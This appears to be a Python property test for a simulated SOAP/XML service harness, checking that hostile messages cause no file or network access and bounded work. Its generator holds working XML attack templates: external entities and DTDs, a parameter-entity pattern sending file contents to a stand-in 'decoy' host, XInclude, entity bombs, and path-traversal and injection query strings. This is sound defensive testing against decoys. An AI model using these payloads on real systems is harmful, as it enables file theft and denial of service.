"""C11: hostile messages cause no outside access and bounded work."""
import base64
import ctypes
import os
import re
import shutil
import struct
import threading

from dst import spec, world
from dst.harness import solo
from dst.seams import STATE
from props import c01, c06

RULE = ('A case is a random service, legitimate calls and hostile traffic at the same time: requests, answers (from a gateway or a server '
        'taken over) and description queries with external entities and DTDs, parameter entities, XInclude, schema location hints, MTOM '
        'references, addressing endpoints, entity bombs, and very deep, wide or long content, pointing at decoy files and a decoy host. '
        'Opens of decoys are watched (inotify), the decoy host and unknown hosts record contacts, the text of the decoys must appear '
        'nowhere, received data is bounded by the size of the message, lines executed are bounded linearly, and legitimate calls give '
        'what they give alone. Non-trivial: a hostile message was processed and a legitimate call returned.')
COMPONENTS = world.components()
QUICK, THOROUGH, QUICK_S, THOROUGH_S = 100000, 10000000, 25, 600
LISTS = ('ops',)
SIMPLER = {'front': 'wsgi', 'pieces': 0, 'framing': 'length', 'segment': 65536, 'work': False, 'share': False}
ASSUMPTIONS = ['HTTP redirects are followed as HTTP clients do; they are not message content.']
HANG_IS_VIOLATION = True

TOKEN = 'S3CR3T-dec0y'
REFS = ('file://@D@/secret.txt', '@D@/secret.txt', 'secret.txt', './secret.xml', 'file:secret.txt', 'http://decoy/secret.xml', 'ftp://decoy/secret.txt',
        'file://localhost@D@/secret.xml', '//decoy/secret.xml', 'file://@D@/evil.dtd', 'evil.dtd', 'http://decoy/evil.dtd', 'https://decoy/x', '@D@/secret.xml')
DTDS = ('file://@D@/evil.dtd', 'evil.dtd', '@D@/evil.dtd', 'http://decoy/evil.dtd', 'file:evil.dtd')
XSDS = ('evil.xsd', 'file://@D@/evil.xsd', 'http://decoy/evil.xsd', '@D@/evil.xsd')
FILES = {
    'secret.txt': TOKEN,
    'secret.xml': f'<x>{TOKEN}</x>',
    'evil.dtd': f'<!ENTITY e "{TOKEN}"><!ENTITY f "{TOKEN}"><!ELEMENT x ANY><!ATTLIST x evil CDATA "{TOKEN}">',
    'evil.xsd': '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="x" type="xs:string"/></xs:schema>',
}


# ------------------------------------------------------------------ hostile content
def text_spots(msg):
    """Byte ranges of texts inside elements (values)."""
    return [m.span(1) for m in re.finditer(rb'>([^<>]+)<', msg) if m.group(1).strip()]


def put(rng, msg, frag, mode=None):
    """Put frag into a value of the message: replace it, or add to it."""
    sp = text_spots(msg)
    if not sp:
        return msg
    a, b = rng.choice(sp)
    mode = mode or rng.choice(['replace', 'append', 'append', 'prepend'])
    if mode == 'replace':
        return msg[:a] + frag + msg[b:]
    if mode == 'append':
        return msg[:b] + frag + msg[b:]
    return msg[:a] + frag + msg[a:]


def strip_decl(msg):
    return re.sub(rb'^\s*<\?xml.*?\?>\s*', b'', msg, flags=re.S)


def attr_root(msg, text):
    m = re.search(rb'<[A-Za-z_][^\s/>]*', msg)
    return msg[:m.end()] + b' ' + text + msg[m.end():]


def inject_child(rng, msg, xml):
    """An element added at a random place between tags."""
    pos = [m.start() for m in re.finditer(rb'</', msg)]
    p = rng.choice(pos)
    return msg[:p] + xml + msg[p:]


BIG = ('deep', 'wide', 'attrs', 'longtext', 'digits', 'nsflood', 'comments', 'pis', 'longname', 'longattr', 'cdata', 'charrefs', 'blocks')
KINDS = ('ext', 'ext', 'ext', 'extattr', 'dtd', 'dtd', 'dtdonly', 'param', 'param2', 'paramval', 'xinclude', 'xinclude', 'schemaloc', 'schemaloc', 'xop', 'wsa',
         'stylesheet', 'xsimport', 'xmlbase', 'lol', 'lol', 'quad', 'quad', 'attrbomb', 'parambomb', 'loop', 'notation', 'mixed') + BIG


def hostile(rng, svc, msg, kind=None):
    """(bytes with @D@ for the decoys' directory, kind)"""
    k = kind or rng.choice(KINDS)
    if not re.search(rb'<[A-Za-z_]', msg) or re.search(rb'<\?xml[^>]*encoding=.(?!utf-?8)', msg, re.I):
        from lxml import etree
        msg = etree.tostring(etree.fromstring(msg), encoding='utf-8')
    msg = strip_decl(msg)
    ref = rng.choice(REFS).encode()
    dtd = rng.choice(DTDS).encode()
    e = rng.choice([b'e', b'f', b'xxe'])
    root = re.search(rb'<([A-Za-z_][^\s/>]*)', msg).group(1)
    env = spec.ENV[svc['v']].encode()
    if k == 'ext':
        ident = rng.choice([b'SYSTEM "%s"', b'PUBLIC "-//x//y" "%s"']) % ref
        return b'<!DOCTYPE %s [<!ENTITY %s %s>]>' % (root, e, ident) + put(rng, msg, b'&%s;' % e), k
    if k == 'extattr':
        return b'<!DOCTYPE %s [<!ENTITY %s SYSTEM "%s">]>' % (root, e, ref) + attr_root(msg, b'x="&%s;"' % e), k
    if k == 'dtd':
        return b'<!DOCTYPE %s SYSTEM "%s">' % (root, dtd) + put(rng, msg, b'&e;'), k
    if k == 'dtdonly':
        return b'<!DOCTYPE %s PUBLIC "p" "%s"[<!ELEMENT zz ANY>]>' % (root, dtd) + msg, k
    if k == 'param':
        return b'<!DOCTYPE %s [<!ENTITY %% p SYSTEM "%s"> %%p;]>' % (root, dtd) + put(rng, msg, rng.choice([b'', b'&e;'])), k
    if k == 'param2':
        return b'<!DOCTYPE %s [<!ENTITY %% p SYSTEM "%s"><!ENTITY e "x"> %%p; %%q;]>' % (root, dtd) + put(rng, msg, b'&e;'), k
    if k == 'paramval':
        return (b'<!DOCTYPE %s [<!ENTITY %% f SYSTEM "%s"><!ENTITY %% w "<!ENTITY &#37; s SYSTEM \'http://decoy/?%%f;\'>">%%w;%%s;]>' % (root, ref)) + msg, k
    if k == 'xinclude':
        x = b'<xi:include xmlns:xi="http://www.w3.org/%s/XInclude" href="%s"%s/>' % (
            rng.choice([b'2001', b'2001', b'2003']), ref, rng.choice([b'', b' parse="text"', b' parse="xml"']))
        return rng.choice([put(rng, msg, x), inject_child(rng, msg, x)]), k
    if k == 'schemaloc':
        x = rng.choice(XSDS).encode()
        nss = re.findall(rb'xmlns(?::\w+)?="([^"]+)"', msg)
        h = rng.choice([b'xsi:noNamespaceSchemaLocation="%s"' % x, b'xsi:schemaLocation="%s %s"' % (rng.choice(nss or [b'urn:x']), x)])
        h = b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" ' + h
        if b'xmlns:xsi=' in msg:
            h = re.sub(rb'xsi:', b'xsj:', h.replace(b'xmlns:xsi', b'xmlns:xsj'))
        if rng.random() < 0.5:
            return attr_root(msg, h), k
        m = rng.choice(list(re.finditer(rb'<[A-Za-z_][^\s/>]*', msg)))
        return msg[:m.end()] + b' ' + h + msg[m.end():], k
    if k == 'xop':
        return put(rng, msg, b'<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="%s"/>' % ref, 'replace'), k
    if k == 'wsa':
        w = b'http://www.w3.org/2005/08/addressing'
        blk = b''.join(b'<a:%s xmlns:a="%s"><a:Address>http://decoy/reply</a:Address></a:%s>' % (n, w, n) for n in (b'ReplyTo', b'FaultTo', b'From'))
        if b'Header>' in msg:
            i = re.search(rb'<[^<>]*Header>', msg)
            if i:
                return msg[:i.end()] + blk + msg[i.end():], k
        m = re.search(rb'<((?:[\w-]+:)?)Body\b', msg)
        return msg[:m.start()] + b'<hh:Header xmlns:hh="%s">' % env + blk + b'</hh:Header>' + msg[m.start():], k
    if k == 'stylesheet':
        return rng.choice([b'<?xml-stylesheet type="text/xsl" href="%s"?>', b'<?xml-model href="%s"?>']) % ref + msg, k
    if k == 'xsimport':
        x = (b'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:import namespace="urn:e" schemaLocation="%s"/><xs:include '
             b'schemaLocation="%s"/></xs:schema>' % (rng.choice(XSDS).encode(), rng.choice(XSDS).encode()))
        return inject_child(rng, msg, x), k
    if k == 'xmlbase':
        return attr_root(msg, b'xml:base="file://@D@/" xml:id="a"'), k
    if k == 'notation':
        return (b'<!DOCTYPE %s [<!NOTATION n SYSTEM "%s"><!ENTITY e SYSTEM "%s" NDATA n><!ATTLIST %s q ENTITY #IMPLIED>]>' % (root, ref, ref, root)
                + attr_root(msg, b'q="e"')), k
    if k == 'lol':
        n, f = rng.choice([(7, 10), (8, 10), (23, 2), (6, 16)])
        d = b'<!ENTITY l0 "lolololol">' + b''.join(b'<!ENTITY l%d "%s">' % (i, b'&l%d;' % (i - 1) * f) for i in range(1, n))
        return b'<!DOCTYPE %s [%s]>' % (root, d) + put(rng, msg, b'&l%d;' % (n - 1), rng.choice(['replace', 'append'])), k
    if k == 'quad':
        n = rng.choice([2000, 5000])
        return b'<!DOCTYPE %s [<!ENTITY a "%s">]>' % (root, b'A' * n * 2) + put(rng, msg, b'&a;' * n, 'append'), k
    if k == 'attrbomb':
        d = b'<!ENTITY l0 "lolololol">' + b''.join(b'<!ENTITY l%d "%s">' % (i, b'&l%d;' % (i - 1) * 10) for i in range(1, 8))
        return b'<!DOCTYPE %s [%s]>' % (root, d) + attr_root(msg, b'x="&l7;"'), k
    if k == 'parambomb':
        d = b'<!ENTITY % p0 "<!-- x -->">' + b''.join(b'<!ENTITY %% p%d "%s">' % (i, b'&#37;p%d;' % (i - 1) * 10) for i in range(1, 8))
        return b'<!DOCTYPE %s [%s %%p7;]>' % (root, d) + msg, k
    if k == 'loop':
        return b'<!DOCTYPE %s [<!ENTITY a "&b;"><!ENTITY b "&a;">]>' % root + put(rng, msg, b'&a;'), k
    if k == 'mixed':
        a, _ = hostile(rng, svc, msg, rng.choice(['xinclude', 'schemaloc', 'xop', 'wsa', 'xmlbase']))
        return hostile(rng, svc, a, rng.choice(['ext', 'dtd', 'param', 'lol', 'dtdonly']))
    n = rng.choice([300, 3000, 20000])
    if k == 'deep':
        return rng.choice([put(rng, msg, b'<a>' * n + b'</a>' * n), inject_child(rng, msg, b'<a>' * n + b'</a>' * n)]), k
    if k == 'wide':
        m = rng.choice(list(re.finditer(rb'<([\w:.-]+)(?:\s[^<>]*)?>[^<>]*</\1>', msg)) or [None])
        if m is None:
            return inject_child(rng, msg, b'<a/>' * n), k
        return msg[:m.end()] + m.group(0) * n + msg[m.end():], k
    if k == 'attrs':
        return attr_root(msg, b' '.join(b'a%d="1"' % i for i in range(n))), k
    if k == 'longtext':
        return put(rng, msg, rng.choice([b'x', b' ', b'-', b'&amp;', '日'.encode(), b'ab ']) * n), k
    if k == 'digits':
        return put(rng, msg, rng.choice([b'9' * n, b'0' * n + b'1', b'1.' + b'0' * n, b'1e' + b'9' * 9, b'2020-01-01T00:00:00.' + b'1' * n, b'9' * n + b'-01-01']), 'replace'), k
    if k == 'nsflood':
        return attr_root(msg, b' '.join(b'xmlns:q%d="urn:q%d"' % (i, i) for i in range(min(n, 3000)))), k
    if k == 'comments':
        return put(rng, msg, b'<!--c-->' * n), k
    if k == 'pis':
        return put(rng, msg, b'<?p x?>' * n), k
    if k == 'longname':
        return inject_child(rng, msg, b'<%s/>' % (b'n' * n)), k
    if k == 'longattr':
        return attr_root(msg, b'x="%s"' % (b'v' * n)), k
    if k == 'cdata':
        return put(rng, msg, b'<![CDATA[x]]>' * n), k
    if k == 'charrefs':
        return put(rng, msg, b'&#120;' * n), k
    if k == 'blocks':
        m = re.search(rb'<((?:[\w-]+:)?)Body\b', msg)
        return msg[:m.start()] + b'<hh:Header xmlns:hh="%s">' % env + b'<b xmlns="urn:b"/>' * n + b'</hh:Header>' + msg[m.start():], k
    raise ValueError(k)


QUERIES = ('?xsd=@D@/secret.xml', '?xsd=file://@D@/secret.xml', '?xsd=secret.xml', '?xsd=../../../../../../../../@D@/secret.txt', '?xsd=http://decoy/evil.xsd',
           '?wsdl=@D@/secret.xml', '?xsd=evil.xsd', '?wsdl&xsd=evil.xsd', '?xsd=%2e%2e/secret.xml', '?xsd=${x}', '?xsd={{7*7}}', '?xsd=' + 'x' * 3000)
HEADS = ({'X-Forwarded-Host': 'decoy'}, {'Referer': 'http://decoy/'}, {'X-Forwarded-For': '1.2.3.4'}, {'Content-Location': 'file:///@D@/secret.xml'},
         {'SOAPAction': '"file://@D@/secret.txt"'}, {'Content-Base': 'http://decoy/'}, {'Link': '<http://decoy/evil.xsd>; rel="describedby"'})


def gen(rng, tier):
    c = world.gen_case(rng, tier, p_fault=0.1, p_foreign=0.3, p_crash=0, p_soaperr=0.1, p_exc=0.05, max_clients=3, max_ops=4,
                       faults=('delay', 'dup', 'resp_lost'))
    svc = c['svc']
    n = len(c['ops'])
    nh = rng.randint(1, 3 if c['front'] == 'wsgi' else 2)
    for i in range(n, n + nh):
        m = rng.choice(svc['methods'])
        sch, e = spec.find_elem(svc, m['in'])
        g = spec.Gen(rng)
        cid = f'c{i}'
        o = {'id': i, 'client': rng.randrange(3, 6), 'op': m['op'], 'arg': g.value(svc, sch, e['type'], cid=cid), 'via': 'foreign', 'how': 'attr',
             'out': world.gen_out(rng, g, svc, m, cid, 0.1, 0.05), 'style': rng.randrange(1 << 30)}
        if m['ih'] and rng.random() < 0.5:
            o['ih'] = g.header(svc, m['ih'])
        x = rng.random()
        if x < 0.65:
            msg = spec.ref_message(svc, m['in'], o['arg'], spec.Style(rng), o.get('ih'))
            data, k = hostile(rng, svc, msg)
            o['raw'], o['hostile'] = base64.b64encode(data).decode(), 'request ' + k
            if rng.random() < 0.2:
                o['headers'] = rng.choice(HEADS)
            if rng.random() < 0.15:
                o['noact'] = 'absent'
        elif x < 0.9:
            o['via'] = 'stub'
            out = o['out'] if 'ok' in o['out'] else world.gen_out(rng, g, svc, m, cid, 0, 0)
            if rng.random() < 0.25:
                msg = (f'<s:Envelope xmlns:s="{spec.ENV[svc["v"]]}"><s:Body><s:Fault><faultcode>s:Server</faultcode><faultstring>x</faultstring>'
                       f'</s:Fault></s:Body></s:Envelope>').encode()
            else:
                msg = spec.ref_message(svc, m['out'], out['ok'], spec.Style(rng), out.get('oh'))
            data, k = hostile(rng, svc, msg)
            o['fault'] = {'kind': 'gw', 'body': base64.b64encode(data).decode(), 'ct': 'text/xml', 'status': rng.choice([200, 200, 500]), 'after': rng.random() < 0.5}
            o['hostile'] = 'answer ' + k
        else:
            o['query'] = rng.choice(QUERIES)
            o['hostile'] = 'query'
            if rng.random() < 0.3:
                o['headers'] = rng.choice(HEADS[:3])
        c['ops'].insert(rng.randint(0, len(c['ops'])), o)
    return c


# ------------------------------------------------------------------ the decoys
class Decoys:
    def __init__(self):
        self.dir = f'/tmp/dst-c11-{threading.get_native_id():08d}'

    def __enter__(self):
        self.cwd = os.getcwd()
        shutil.rmtree(self.dir, ignore_errors=True)     # left by a process that was killed
        os.mkdir(self.dir)
        for n, t in FILES.items():
            with open(f'{self.dir}/{n}', 'w') as f:
                f.write(t)
            os.utime(f'{self.dir}/{n}', (1, 2))
        os.chdir(self.dir)
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.fd = self.libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        if self.fd >= 0 and self.libc.inotify_add_watch(self.fd, self.dir.encode(), 0x20 | 0x1) < 0:
            os.close(self.fd)
            self.fd = -1
        return self

    def opened(self):
        out = set()
        for n in FILES:
            if os.stat(f'{self.dir}/{n}').st_atime != 1:
                out.add(n)
        if self.fd >= 0:
            while True:
                try:
                    buf = os.read(self.fd, 65536)
                except BlockingIOError:
                    break
                i = 0
                while i < len(buf):
                    wd, mask, ck, ln = struct.unpack_from('iIII', buf, i)
                    name = buf[i + 16:i + 16 + ln].rstrip(b'\0').decode()
                    if name in FILES:
                        out.add(name)
                    i += 16 + ln
        return sorted(out)

    def __exit__(self, *a):
        os.chdir(self.cwd)
        if self.fd >= 0:
            os.close(self.fd)
        shutil.rmtree(self.dir)


def located(case, d):
    """The case with @D@ replaced by the decoys' directory."""
    import copy
    case = copy.deepcopy(case)

    def sub(b64):
        return base64.b64encode(base64.b64decode(b64).replace(b'@D@', d.encode())).decode()
    for o in case['ops']:
        if 'raw' in o:
            o['raw'] = sub(o['raw'])
        if 'body' in (o.get('fault') or {}):
            o['fault']['body'] = sub(o['fault']['body'])
        if 'query' in o:
            o['query'] = o['query'].replace('@D@', d)
        for k in o.get('headers') or {}:
            o['headers'] = {k: o['headers'][k].replace('@D@', d)}
    return case


class W(c06.W):
    def prepare(self):
        super().prepare()
        self.contacts = []

        def decoy(conn, head, body, how, dup):
            self.contacts.append(head[:200].decode('latin-1'))
            conn.s2c.finish('rst')
        self.net.serve('decoy', decoy)

    def do_foreign(self, o):
        if 'query' not in o:
            return super().do_foreign(o)
        import requests
        loc = self.svc['loc'].replace('${scheme}', 'http').replace('${host}', world.HOST)
        try:
            r = requests.get(loc + o['query'], headers=o.get('headers'))
            return {'ret': r.status_code, 'text': r.text[:100000]}
        except Exception as x:
            self.sim.retrace()
            return {'exc': type(x).__name__, 'msg': str(x)[:300]}


class Alone(W, c06.Alone):
    pass


def size(x):
    if isinstance(x, dict):
        return sum(size(k) + size(y) for k, y in x.items())
    if isinstance(x, (list, tuple)):
        return sum(map(size, x)) + len(x)
    return len(x) if isinstance(x, (str, bytes)) else 1


def rss():
    with open('/proc/self/statm') as f:
        return int(f.read().split()[1]) * 4096


def peak():
    import resource
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


def alone(case, o):
    """One hostile message processed alone: lines executed and memory used."""
    if 'raw' in o:
        a = Alone(case, o['id'])
        h, body = a.request_bytes(o)
        loc = '/' + case['svc']['loc'].split('/', 3)[-1]
        head = f'POST {loc} HTTP/1.1\r\nHost: {world.HOST}\r\n' + ''.join(f'{k}: {x}\r\n' for k, x in h.items()) + f'Content-Length: {len(body)}\r\n\r\n'
        m0 = peak()
        res = a.answer(base64.b64encode(head.encode('latin-1')).decode(), base64.b64encode(body).decode())
        return {'lines': a.sim.steps, 'mem': max(0, peak() - m0), 'in': len(body), 'answer': size(res.get('body', '')) * 3 // 4, 'overrun': a.sim.overrun,
                'got': max([size(x['arg']) + size(x['hdr']) for x in a.execs] or [0]), 'stuck': res.get('stuck'), 'crash': res.get('crash')}
    w = W(dict(case, ops=[o], sched={'mode': 'rand', 'seed': 0, 'p': 0.0}))
    m0 = peak()
    w.run()
    return {'lines': w.sim.steps, 'mem': max(0, peak() - m0), 'in': len(base64.b64decode(o['fault']['body'])), 'answer': 0, 'overrun': w.sim.overrun,
            'got': size(w.outcomes.get(o['id'])), 'stuck': w.stuck, 'crash': None}


def limits(n):
    return {'lines': 150000 + 60 * n, 'mem': (64 << 20) + 120 * n, 'got': 1200000 + 8 * n, 'answer': 1300000 + 16 * n}


def run(case, v):
    with Decoys() as d:
        lc = located(case, d.dir)
        w = W(lc).run()
        c01.check(Legit(w), v)
        w.liveness(v)
        seen = 0
        for o in lc['ops']:
            out = w.outcomes.get(o['id'])
            if TOKEN in str(out):
                v('content-of-decoy', f'{o.get("hostile")}: caller of {o["id"]} saw {str(out)[:500]}')
            seen += bool(o.get('hostile') and out is not None)
        for x in w.execs:
            if TOKEN in str(x):
                v('content-of-decoy', f'{w.ops[x["call"]].get("hostile")}: handler of {x["call"]} got {str(x)[:500]}')
        for r in w.server.responses:
            if TOKEN.encode() in r['body']:
                v('content-of-decoy', f'answer {r["body"][:500]!r}')
        worst = {}
        for o in lc['ops']:
            if not o.get('hostile') or 'query' in o:
                continue
            try:
                r = solo(lambda: alone(lc, o))
            except RuntimeError as x:
                if 'MemoryError' in str(x):
                    v('unbounded-memory', f'{o["hostile"]}: {str(x)[-600:]}')
                    continue
                raise
            if r['stuck'] or r['overrun']:
                v('unbounded-work', f'{o["hostile"]}: message of {r["in"]} bytes: {r}')
            for k, lim in limits(r['in']).items():
                if r[k] > lim:
                    v('unbounded-' + k, f'{o["hostile"]}: message of {r["in"]} bytes took {k} {r[k]}, limit {lim}')
                worst[k] = max(worst.get(k, 0), r[k] / lim)
        for n in d.opened():
            v('opened-file', f'{n} was opened; hostile content: {[o["hostile"] for o in case["ops"] if o.get("hostile")]}')
        if w.contacts:
            v('contacted-host', str(w.contacts[:2]))
        bad = [x for x in STATE.escapes]
        if bad:
            v('outside-access', str(bad[:3]))
    legit = sum(1 for o in case['ops'] if not o.get('hostile') and o['id'] in w.outcomes)
    return w.result(nontrivial=bool(seen and legit), key=f'{w.sim.sig}:{case["seed"]}',
                    probes={'hostile_messages': seen, 'legitimate_calls': legit, 'watched_by_inotify': int(d.fd >= 0),
                            **{'hostile_' + o['hostile'].replace(' ', '_'): 1 for o in case['ops'] if o.get('hostile')}},
                    summary=f'{[o.get("hostile") for o in case["ops"] if o.get("hostile")]} beside {legit} legitimate calls; '
                            + ', '.join(f'{k} {x:.2f}' for k, x in worst.items() if k != 'mem') + ' of the limit')


class Legit:
    """View of a world that shows the legitimate calls only."""

    def __init__(self, w):
        self.svc, self.events, self.ops = w.svc, [], w.ops
        self.case = dict(w.case, ops=[o for o in w.case['ops'] if not o.get('hostile')])
        ids = {o['id'] for o in self.case['ops']}
        self.execs = [x for x in w.execs if x['call'] in ids]
        self.outcomes = {k: x for k, x in w.outcomes.items() if k in ids}

    def liveness(self, v):
        pass
